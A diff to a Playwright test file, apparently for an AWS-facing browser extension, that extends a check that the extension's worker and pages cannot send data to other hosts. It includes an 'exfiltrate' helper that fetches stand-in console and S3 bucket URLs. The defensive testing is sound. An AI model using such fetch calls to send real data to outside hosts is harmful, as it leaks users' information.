@@ -156,11 +156,21 @@ test('T5: a page has no way to the worker, and can neither frame, open nor read 
   expect(mutatingCalls(stage.aws.log.slice(before))).toEqual([]);
 });
 
-/** Sends something to a host that can be reached, so that only a policy stands in the way. */
-function exfiltrate(): Promise<string> {
-  return fetch('https://us-east-1.console.aws.amazon.com/exfiltrate', { mode: 'no-cors' }).then(
-    () => 'sent',
-    () => 'refused',
+/** Hosts that can be reached, so that only a policy stands in the way; one is at AWS itself. */
+const elsewhere = [
+  'https://us-east-1.console.aws.amazon.com/exfiltrate',
+  'https://anybodys-bucket.s3.us-east-1.amazonaws.com/exfiltrate',
+];
+
+/** Sends something to hosts; gives for each whether it went out. */
+function exfiltrate(addresses: readonly string[]): Promise<readonly string[]> {
+  return Promise.all(
+    addresses.map((address) =>
+      fetch(address, { mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    ),
   );
 }
 
@@ -170,12 +180,16 @@ test('T16: nothing leaves for anywhere but AWS', async ({ stage }) => {
   await page.goto(office);
   await expect(panelOf(page).usedBy).toContainText('office-fleet');
   expect(unexpectedRequests(stage.aws.log)).toEqual([]);
-  expect(await stage.context.serviceWorkers()[0]?.evaluate(exfiltrate)).toBe('refused');
+  const refused = ['refused', 'refused'];
+  const worker = stage.context.serviceWorkers()[0];
+  expect(await worker?.evaluate(exfiltrate, elsewhere)).toEqual(refused);
   const desk = await stage.openExtensionPage('desk.html');
-  expect(await desk.evaluate(exfiltrate)).toBe('refused');
+  expect(await desk.evaluate(exfiltrate, elsewhere)).toEqual(refused);
   expect(stage.aws.log.filter((entry) => entry.path === '/exfiltrate')).toEqual([]);
-  // A console page can be reached from itself.
-  expect(await page.evaluate(exfiltrate)).toBe('sent');
+  // Both can be reached: a console page by itself, and the bucket by whoever goes there.
+  expect(await page.evaluate(exfiltrate, elsewhere.slice(0, 1))).toEqual(['sent']);
+  await (await stage.context.newPage()).goto(elsewhere[1] ?? '');
+  expect(stage.aws.log.filter((entry) => entry.path === '/exfiltrate')).toHaveLength(2);
 });
 
 test.describe('without access to the hosts', () => {
